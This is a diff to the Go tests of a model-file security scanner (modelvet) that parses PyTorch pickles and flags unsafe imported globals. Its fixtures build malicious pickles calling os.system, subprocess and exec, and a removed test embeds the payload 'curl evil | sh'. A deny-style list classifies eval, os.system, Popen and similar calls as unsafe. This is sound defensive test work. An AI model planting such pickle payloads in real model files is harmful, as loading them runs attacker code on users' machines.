@@ -1,4 +1,4 @@
-package manifest
+package pickle
 
 import (
 	"archive/zip"
@@ -9,29 +9,23 @@ import (
 	"fmt"
 	"io"
 	"os"
-	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
-	"github.com/modelvet/modelvet/finding"
+	"github.com/modelvet/modelvet/formats"
 	"github.com/modelvet/modelvet/internal/limits"
 	"github.com/modelvet/modelvet/internal/testmodel"
 	"github.com/modelvet/modelvet/internal/testutil"
 )
 
-var fixtureTensors = []testmodel.Tensor{
-	{Name: "model.embed.weight", DType: "F32", Shape: []int64{4, 3}},
-	{Name: "model.norm.weight", DType: "BF16", Shape: []int64{3}},
-	{Name: "lm_head.bias", DType: "F16", Shape: []int64{4}},
-}
-
-func readPickleBytes(t testing.TB, data []byte) (*PickleInfo, error) {
+func readPickleBytes(t testing.TB, data []byte) (*Info, error) {
 	t.Helper()
-	return ReadPickle(bytes.NewReader(data), int64(len(data)))
+	return Read(bytes.NewReader(data), int64(len(data)))
 }
 
-func globalNames(info *PickleInfo) []string {
+func globalNames(info *Info) []string {
 	var out []string
 	for _, g := range info.Globals {
 		out = append(out, g.String()+"="+g.Class)
@@ -49,14 +43,14 @@ func TestReadPickleStateDictEveryProtocol(t *testing.T) {
 	}
 	for proto := 0; proto <= 5; proto++ {
 		t.Run(fmt.Sprint("protocol", proto), func(t *testing.T) {
-			info, err := readPickleBytes(t, testmodel.TorchStateDict(proto, fixtureTensors, nil))
+			info, err := readPickleBytes(t, testmodel.TorchStateDict(proto, testmodel.FixtureTensors, nil))
 			if err != nil {
 				t.Fatal(err)
 			}
 			if got := globalNames(info); !slices.Equal(got, want) {
 				t.Errorf("globals = %q, want %q", got, want)
 			}
-			if info.Container != PickleRaw || info.Streams != 1 || info.Incomplete != "" {
+			if info.Container != Raw || info.Streams != 1 || info.Incomplete != "" {
 				t.Errorf("container %q streams %d incomplete %q", info.Container, info.Streams, info.Incomplete)
 			}
 			// Protocol 0 streams written by this builder use BINPERSID, a
@@ -64,16 +58,13 @@ func TestReadPickleStateDictEveryProtocol(t *testing.T) {
 			if wantProto := max(proto, 1); info.Protocol != wantProto {
 				t.Errorf("protocol = %d, want %d", info.Protocol, wantProto)
 			}
-			if info.PersistentIDs != len(fixtureTensors) {
-				t.Errorf("persistent ids = %d, want %d", info.PersistentIDs, len(fixtureTensors))
+			if info.PersistentIDs != len(testmodel.FixtureTensors) {
+				t.Errorf("persistent ids = %d, want %d", info.PersistentIDs, len(testmodel.FixtureTensors))
 			}
 			// One OrderedDict() per tensor's hooks, one per tensor rebuild,
 			// one for the state dict.
-			if got := info.Calls["REDUCE"]; got != 2*len(fixtureTensors)+1 {
+			if got := info.Calls["REDUCE"]; got != 2*len(testmodel.FixtureTensors)+1 {
 				t.Errorf("REDUCE calls = %d", got)
-			}
-			if fs := info.findings("model.pkl"); len(fs) != 1 || fs[0].Code != finding.FormatPickle {
-				t.Errorf("findings = %+v, want only format.pickle", fs)
 			}
 		})
 	}
@@ -114,7 +105,7 @@ func TestReadPickleMalicious(t *testing.T) {
 				if err != nil {
 					t.Fatal(err)
 				}
-				var found *PickleGlobal
+				var found *Global
 				for i, g := range info.Globals {
 					if g.String() == want.global {
 						found = &info.Globals[i]
@@ -126,15 +117,11 @@ func TestReadPickleMalicious(t *testing.T) {
 				if found == nil {
 					t.Fatalf("globals = %q, want %s", globalNames(info), want.global)
 				}
-				if found.Class != PickleUnsafe || found.Opcode != want.opcode {
+				if found.Class != Unsafe || found.Opcode != want.opcode {
 					t.Errorf("global %+v, want class unsafe opcode %s", found, want.opcode)
 				}
 				if found.Offset < 0 || found.Offset >= int64(len(data)) || !bytes.ContainsAny(data[found.Offset:found.Offset+1], "ci\x93") {
 					t.Errorf("offset %d does not point at an import opcode", found.Offset)
-				}
-				fs := info.findings("evil.pkl")
-				if len(fs) != 2 || fs[1].Code != finding.FormatCodeExecution || !strings.Contains(fs[1].Message, want.global) {
-					t.Errorf("findings = %+v", fs)
 				}
 			})
 		}
@@ -142,16 +129,16 @@ func TestReadPickleMalicious(t *testing.T) {
 }
 
 func TestReadPickleTorchZip(t *testing.T) {
-	data := testmodel.TorchZip("archive", 2, fixtureTensors)
+	data := testmodel.TorchZip("archive", 2, testmodel.FixtureTensors)
 	info, err := readPickleBytes(t, data)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if info.Container != PickleZip || !slices.Equal(info.Members, []string{"archive/data.pkl"}) || info.Protocol != 2 {
+	if info.Container != Zip || !slices.Equal(info.Members, []string{"archive/data.pkl"}) || info.Protocol != 2 {
 		t.Errorf("container %q members %q protocol %d", info.Container, info.Members, info.Protocol)
 	}
 	for _, g := range info.Globals {
-		if g.Class != PickleSafe || g.Member != "archive/data.pkl" {
+		if g.Class != Safe || g.Member != "archive/data.pkl" {
 			t.Errorf("global %+v", g)
 		}
 		// Stored members are read in place: the offset is in the file.
@@ -162,11 +149,11 @@ func TestReadPickleTorchZip(t *testing.T) {
 }
 
 func TestReadPickleTorchZipHostileMembers(t *testing.T) {
-	evilPkl := testmodel.TorchStateDict(2, fixtureTensors, func(p *testmodel.Pickler) {
+	evilPkl := testmodel.TorchStateDict(2, testmodel.FixtureTensors, func(p *testmodel.Pickler) {
 		p.Call("subprocess", "check_output", "id")
 	})
 	hidden := testmodel.MaliciousPickle(4, testmodel.ViaStackGlobal, "builtins", "exec", "print(1)")
-	data := testmodel.TorchZipWith("model", evilPkl, fixtureTensors, map[string][]byte{
+	data := testmodel.TorchZipWith("model", evilPkl, testmodel.FixtureTensors, map[string][]byte{
 		"model/extra/state.pkl": testmodel.MaliciousPickle(2, testmodel.ViaGlobal, "runpy", "run_path", "x.py"),
 		"model/nosuffix":        hidden, // found by its magic
 		"model/data/9":          hidden, // storage bytes are never walked
@@ -216,7 +203,7 @@ func TestReadPickleZipWithoutPickle(t *testing.T) {
 	w.Write([]byte("hello"))
 	zw.Close()
 	_, err := readPickleBytes(t, buf.Bytes())
-	var fe *FormatError
+	var fe *formats.Error
 	if !errors.As(err, &fe) || !strings.Contains(fe.Msg, "no data.pkl") {
 		t.Fatalf("err = %v", err)
 	}
@@ -250,16 +237,16 @@ func TestReadPickleZipEntryCap(t *testing.T) {
 
 func TestReadPickleLegacy(t *testing.T) {
 	for proto := 0; proto <= 5; proto++ {
-		data := testmodel.TorchLegacy(proto, fixtureTensors)
+		data := testmodel.TorchLegacy(proto, testmodel.FixtureTensors)
 		info, err := readPickleBytes(t, data)
 		if err != nil {
 			t.Fatalf("protocol %d: %v", proto, err)
 		}
-		if info.Container != PickleLegacy || info.Streams != 5 {
+		if info.Container != Legacy || info.Streams != 5 {
 			t.Errorf("protocol %d: container %q streams %d", proto, info.Container, info.Streams)
 		}
 		for _, g := range info.Globals {
-			if g.Class != PickleSafe {
+			if g.Class != Safe {
 				t.Errorf("protocol %d: %+v", proto, g)
 			}
 		}
@@ -268,7 +255,7 @@ func TestReadPickleLegacy(t *testing.T) {
 		}
 	}
 	// A legacy file cut before its fifth pickle is incomplete.
-	data := testmodel.TorchLegacy(2, fixtureTensors)
+	data := testmodel.TorchLegacy(2, testmodel.FixtureTensors)
 	first4 := bytes.Index(data, []byte("\x80\x02]")) // the storage-keys pickle
 	info, err := readPickleBytes(t, data[:first4])
 	if err == nil || info.Incomplete == "" {
@@ -277,7 +264,7 @@ func TestReadPickleLegacy(t *testing.T) {
 }
 
 func TestReadPickleConcatenatedRaw(t *testing.T) {
-	first := testmodel.TorchStateDict(2, fixtureTensors, nil)
+	first := testmodel.TorchStateDict(2, testmodel.FixtureTensors, nil)
 	second := testmodel.MaliciousPickle(4, testmodel.ViaStackGlobal, "os", "system", "id")
 	data := append(append(slices.Clone(first), second...), "trailing junk"...)
 	info, err := readPickleBytes(t, data)
@@ -328,7 +315,7 @@ func TestReadPickleExtension(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if len(info.Globals) != 1 || info.Globals[0].Class != PickleUnknown || info.Globals[0].Opcode != "EXT2" || !strings.Contains(info.Globals[0].Name, "300") {
+	if len(info.Globals) != 1 || info.Globals[0].Class != Unknown || info.Globals[0].Opcode != "EXT2" || !strings.Contains(info.Globals[0].Name, "300") {
 		t.Errorf("globals = %+v", info.Globals)
 	}
 }
@@ -348,17 +335,17 @@ func TestReadPickleLongOperandIsUnresolved(t *testing.T) {
 }
 
 // TestReadPickleTruncatedEverywhere cuts a hostile pickle at every byte:
-// each cut yields a FormatError with an offset inside the data and keeps
+// each cut yields a formats.Error with an offset inside the data and keeps
 // what was found before the cut.
 func TestReadPickleTruncatedEverywhere(t *testing.T) {
-	data := testmodel.TorchStateDict(4, fixtureTensors, func(p *testmodel.Pickler) { p.Call("os", "system", "id") })
+	data := testmodel.TorchStateDict(4, testmodel.FixtureTensors, func(p *testmodel.Pickler) { p.Call("os", "system", "id") })
 	full, err := readPickleBytes(t, data)
 	if err != nil {
 		t.Fatal(err)
 	}
 	for n := 1; n < len(data); n++ {
 		info, err := readPickleBytes(t, data[:n])
-		var fe *FormatError
+		var fe *formats.Error
 		if !errors.As(err, &fe) {
 			t.Fatalf("cut at %d: err = %v", n, err)
 		}
@@ -399,9 +386,9 @@ func TestReadPickleHostile(t *testing.T) {
 	for name, c := range cases {
 		t.Run(name, func(t *testing.T) {
 			info, err := readPickleBytes(t, c.data)
-			var fe *FormatError
+			var fe *formats.Error
 			if !errors.As(err, &fe) || !strings.Contains(err.Error(), c.want) {
-				t.Fatalf("err = %v, want a FormatError containing %q", err, c.want)
+				t.Fatalf("err = %v, want a formats.Error containing %q", err, c.want)
 			}
 			if info == nil || info.Incomplete == "" {
 				t.Errorf("info = %+v, want Incomplete", info)
@@ -471,48 +458,100 @@ func (r shrinkingReader) ReadAt(p []byte, off int64) (int, error) {
 }
 
 func TestReadPickleFileShrinksWhileRead(t *testing.T) {
-	data := testmodel.TorchStateDict(2, fixtureTensors, nil)
-	_, err := ReadPickle(shrinkingReader{data, len(data) / 2}, int64(len(data)))
-	var fe *FormatError
+	data := testmodel.TorchStateDict(2, testmodel.FixtureTensors, nil)
+	_, err := Read(shrinkingReader{data, len(data) / 2}, int64(len(data)))
+	var fe *formats.Error
 	if !errors.As(err, &fe) || !strings.Contains(fe.Msg, "truncated") {
 		t.Fatalf("err = %v", err)
 	}
-	zipData := testmodel.TorchZip("archive", 2, fixtureTensors)
-	_, err = ReadPickle(shrinkingReader{zipData, len(zipData) - 10}, int64(len(zipData)))
+	zipData := testmodel.TorchZip("archive", 2, testmodel.FixtureTensors)
+	_, err = Read(shrinkingReader{zipData, len(zipData) - 10}, int64(len(zipData)))
 	if err == nil {
 		t.Fatal("zip cut while read: no error")
 	}
 }
 
+// TestPickleOpcodeTable checks the opcode table against the research
+// table generated from CPython's pickletools: every byte, name, protocol
+// and argument encoding.
+func TestPickleOpcodeTable(t *testing.T) {
+	f, err := os.Open(testutil.Research(t, "data", "pickle-opcodes.tsv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	args := map[string]pickleOpArg{
+		"": argNone, "uint1": argU1, "uint2": argU2, "int4": argI4, "uint4": argU4, "uint8": argU8, "float8": argF8,
+		"decimalnl_short": argLine, "decimalnl_long": argLine, "floatnl": argLine,
+		"stringnl": argStringNL, "stringnl_noescape": argNoEscNL, "unicodestringnl": argUnicodeNL,
+		"stringnl_noescape_pair": argPairNL,
+		"bytes1":                 argLen1, "string1": argLen1, "unicodestring1": argLen1, "long1": argLen1,
+		"bytes4": argLen4, "unicodestring4": argLen4, "string4": argLen4S, "long4": argLen4S,
+		"bytes8": argLen8, "unicodestring8": argLen8, "bytearray8": argLen8,
+	}
+	sc := bufio.NewScanner(f)
+	sc.Scan()
+	rows := 0
+	for sc.Scan() {
+		cols := strings.Split(sc.Text(), "\t")
+		if len(cols) < 5 {
+			continue
+		}
+		rows++
+		b, err := strconv.ParseUint(strings.TrimPrefix(cols[2], "0x"), 16, 8)
+		if err != nil {
+			t.Fatal(err)
+		}
+		op := pickleOps[b]
+		proto, _ := strconv.Atoi(cols[3])
+		want, ok := args[cols[4]]
+		if !ok {
+			t.Fatalf("unknown argument format %q", cols[4])
+		}
+		if op.name != cols[0] || op.proto != proto || op.arg != want {
+			t.Errorf("0x%02x: have %+v, research says %s proto %d arg %s", b, op, cols[0], proto, cols[4])
+		}
+	}
+	defined := 0
+	for _, op := range pickleOps {
+		if op.name != "" {
+			defined++
+		}
+	}
+	if rows != 68 || defined != 68 {
+		t.Errorf("%d research rows, %d opcodes defined; want 68", rows, defined)
+	}
+}
+
 func TestClassifyPickleGlobal(t *testing.T) {
 	for _, c := range []struct{ module, name, want string }{
-		{"torch._utils", "_rebuild_tensor_v2", PickleSafe},
-		{"torch._utils", "_rebuild_parameter", PickleSafe},
-		{"torch", "FloatStorage", PickleSafe},
-		{"torch", "bfloat16", PickleSafe},
-		{"collections", "OrderedDict", PickleSafe},
-		{"numpy.core.multiarray", "_reconstruct", PickleSafe},
-		{"__builtin__", "set", PickleSafe},
-		{"builtins", "eval", PickleUnsafe},
-		{"__builtin__", "eval", PickleUnsafe},
-		{"builtins", "getattr", PickleUnsafe},
-		{"builtins", "__import__", PickleUnsafe},
-		{"os", "system", PickleUnsafe},
-		{"os.path", "join", PickleUnsafe},
-		{"posix", "system", PickleUnsafe},
-		{"nt", "system", PickleUnsafe},
-		{"subprocess", "Popen", PickleUnsafe},
-		{"aiohttp.client", "request", PickleUnsafe},
-		{"operator", "attrgetter", PickleUnsafe},
-		{"idlelib.pyshell", "ModifiedInterpreter.runcode", PickleUnsafe},
-		{"torch.serialization", "load", PickleUnsafe},
-		{"operator", "add", PickleUnknown},
-		{"osx", "anything", PickleUnknown},
-		{"sklearn.linear_model", "LogisticRegression", PickleUnknown},
-		{"torch._utils", "_rebuild_tensor_v9", PickleUnknown},
-		{"unknown", "unknown", PickleUnknown},
+		{"torch._utils", "_rebuild_tensor_v2", Safe},
+		{"torch._utils", "_rebuild_parameter", Safe},
+		{"torch", "FloatStorage", Safe},
+		{"torch", "bfloat16", Safe},
+		{"collections", "OrderedDict", Safe},
+		{"numpy.core.multiarray", "_reconstruct", Safe},
+		{"__builtin__", "set", Safe},
+		{"builtins", "eval", Unsafe},
+		{"__builtin__", "eval", Unsafe},
+		{"builtins", "getattr", Unsafe},
+		{"builtins", "__import__", Unsafe},
+		{"os", "system", Unsafe},
+		{"os.path", "join", Unsafe},
+		{"posix", "system", Unsafe},
+		{"nt", "system", Unsafe},
+		{"subprocess", "Popen", Unsafe},
+		{"aiohttp.client", "request", Unsafe},
+		{"operator", "attrgetter", Unsafe},
+		{"idlelib.pyshell", "ModifiedInterpreter.runcode", Unsafe},
+		{"torch.serialization", "load", Unsafe},
+		{"operator", "add", Unknown},
+		{"osx", "anything", Unknown},
+		{"sklearn.linear_model", "LogisticRegression", Unknown},
+		{"torch._utils", "_rebuild_tensor_v9", Unknown},
+		{"unknown", "unknown", Unknown},
 	} {
-		if got := ClassifyPickleGlobal(c.module, c.name); got != c.want {
+		if got := Classify(c.module, c.name); got != c.want {
 			t.Errorf("%s.%s = %s, want %s", c.module, c.name, got, c.want)
 		}
 	}
@@ -535,15 +574,15 @@ func TestPicklePolicyMatchesResearch(t *testing.T) {
 		if len(cols) != 4 {
 			continue
 		}
-		want := PickleUnsafe
+		want := Unsafe
 		if strings.HasPrefix(cols[1], "safe") {
-			want = PickleSafe
+			want = Safe
 		}
 		for name := range strings.SplitSeq(cols[3], ",") {
 			if name == "*" {
 				name = "anything"
 			}
-			if got := ClassifyPickleGlobal(cols[2], name); got != want {
+			if got := Classify(cols[2], name); got != want {
 				t.Errorf("%s %s.%s = %s, want %s", cols[0], cols[2], name, got, want)
 			}
 			n++
@@ -554,68 +593,26 @@ func TestPicklePolicyMatchesResearch(t *testing.T) {
 	}
 }
 
-// TestPickleFindingsEndToEnd audits a directory holding a hostile
-// checkpoint through Parse and Open.
-func TestPickleFindingsEndToEnd(t *testing.T) {
-	dir := t.TempDir()
-	evil := testmodel.TorchZipWith("archive", testmodel.TorchStateDict(2, fixtureTensors, func(p *testmodel.Pickler) {
-		p.Call("os", "system", "curl evil | sh")
-	}), fixtureTensors, nil)
-	os.WriteFile(filepath.Join(dir, "pytorch_model.bin"), evil, 0o644)
-	os.WriteFile(filepath.Join(dir, "clean.pt"), testmodel.TorchZip("clean", 2, fixtureTensors), 0o644)
-	os.WriteFile(filepath.Join(dir, "optimizer.pkl"), testmodel.MaliciousPickle(0, testmodel.ViaInst, "subprocess", "call", "id"), 0o644)
-	src, err := Parse(dir)
-	if err != nil {
-		t.Fatal(err)
-	}
-	rel, err := src.Open(t.Context())
-	if err != nil {
-		t.Fatal(err)
-	}
-	codes := map[string][]finding.Code{}
-	for _, f := range rel.Findings() {
-		codes[f.Subject] = append(codes[f.Subject], f.Code)
-	}
-	want := map[string][]finding.Code{
-		"clean.pt":          {finding.FormatPickle},
-		"optimizer.pkl":     {finding.FormatCodeExecution, finding.FormatPickle},
-		"pytorch_model.bin": {finding.FormatCodeExecution, finding.FormatPickle},
-	}
-	for k, v := range want {
-		got := codes[k]
-		slices.Sort(got)
-		if !slices.Equal(got, v) {
-			t.Errorf("%s: codes %v, want %v", k, got, v)
-		}
-	}
-	if f := rel.File("optimizer.pkl"); f == nil || f.Format != FormatPickle || f.Pickle == nil || f.Pickle.Protocol != 0 {
-		t.Errorf("optimizer.pkl = %+v", f)
-	}
-	if f := rel.File("pytorch_model.bin"); f == nil || f.Format != FormatPyTorch {
-		t.Errorf("pytorch_model.bin = %+v", f)
-	}
-}
-
 func FuzzReadPickle(f *testing.F) {
-	f.Add(testmodel.TorchStateDict(2, fixtureTensors, nil))
-	f.Add(testmodel.TorchStateDict(0, fixtureTensors[:1], nil))
-	f.Add(testmodel.TorchStateDict(5, fixtureTensors[:1], nil))
-	f.Add(testmodel.TorchZip("archive", 2, fixtureTensors[:1]))
-	f.Add(testmodel.TorchLegacy(2, fixtureTensors[:1]))
-	f.Add(testmodel.TorchLegacy(0, fixtureTensors[:1]))
+	f.Add(testmodel.TorchStateDict(2, testmodel.FixtureTensors, nil))
+	f.Add(testmodel.TorchStateDict(0, testmodel.FixtureTensors[:1], nil))
+	f.Add(testmodel.TorchStateDict(5, testmodel.FixtureTensors[:1], nil))
+	f.Add(testmodel.TorchZip("archive", 2, testmodel.FixtureTensors[:1]))
+	f.Add(testmodel.TorchLegacy(2, testmodel.FixtureTensors[:1]))
+	f.Add(testmodel.TorchLegacy(0, testmodel.FixtureTensors[:1]))
 	for how := testmodel.ViaGlobal; how <= testmodel.ViaHidden; how++ {
 		f.Add(testmodel.MaliciousPickle(4, how, "os", "system", "id"))
 		f.Add(testmodel.MaliciousPickle(1, how, "os", "system", "id"))
 	}
 	f.Fuzz(func(t *testing.T, data []byte) {
-		info, err := ReadPickle(bytes.NewReader(data), int64(len(data)))
+		info, err := Read(bytes.NewReader(data), int64(len(data)))
 		if info == nil {
 			t.Fatal("nil info")
 		}
 		if err != nil {
-			var fe *FormatError
+			var fe *formats.Error
 			if !errors.As(err, &fe) {
-				t.Fatalf("error %v is not a FormatError", err)
+				t.Fatalf("error %v is not a formats.Error", err)
 			}
 			if info.Incomplete == "" {
 				t.Fatal("error without Incomplete")
@@ -623,7 +620,7 @@ func FuzzReadPickle(f *testing.F) {
 		}
 		for i, g := range info.Globals {
 			switch g.Class {
-			case PickleSafe, PickleUnsafe, PickleUnknown:
+			case Safe, Unsafe, Unknown:
 			default:
 				t.Fatalf("class %q", g.Class)
 			}
@@ -646,7 +643,7 @@ func BenchmarkReadPickleStateDict(b *testing.B) {
 	b.SetBytes(int64(len(data)))
 	b.ReportAllocs()
 	for b.Loop() {
-		if _, err := ReadPickle(bytes.NewReader(data), int64(len(data))); err != nil {
+		if _, err := Read(bytes.NewReader(data), int64(len(data))); err != nil {
 			b.Fatal(err)
 		}
 	}
@@ -662,7 +659,7 @@ func BenchmarkReadPickleLargeRaw(b *testing.B) {
 	data := p.Stop()
 	b.SetBytes(int64(len(data)))
 	for b.Loop() {
-		if _, err := ReadPickle(bytes.NewReader(data), int64(len(data))); err != nil {
+		if _, err := Read(bytes.NewReader(data), int64(len(data))); err != nil {
 			b.Fatal(err)
 		}
 	}
